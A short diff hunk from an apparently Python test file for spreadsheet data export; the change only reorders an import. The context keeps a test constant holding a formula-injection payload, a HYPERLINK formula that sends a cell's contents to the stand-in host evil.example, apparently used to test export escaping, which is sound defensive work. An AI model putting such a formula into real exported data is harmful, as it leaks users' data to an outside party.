@@ -25,8 +25,8 @@ from core.context import acting_as, system_context
 from core.dataexchange import export_rows, export_stream, run_import
 from core.dataexchange.exporting import _cell
 from core.fields import FieldInfo
-from core.models import Region
 from core.lists import Condition, ListQuery
+from core.models import Region
 from tests.core.org_fixtures import build_org
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
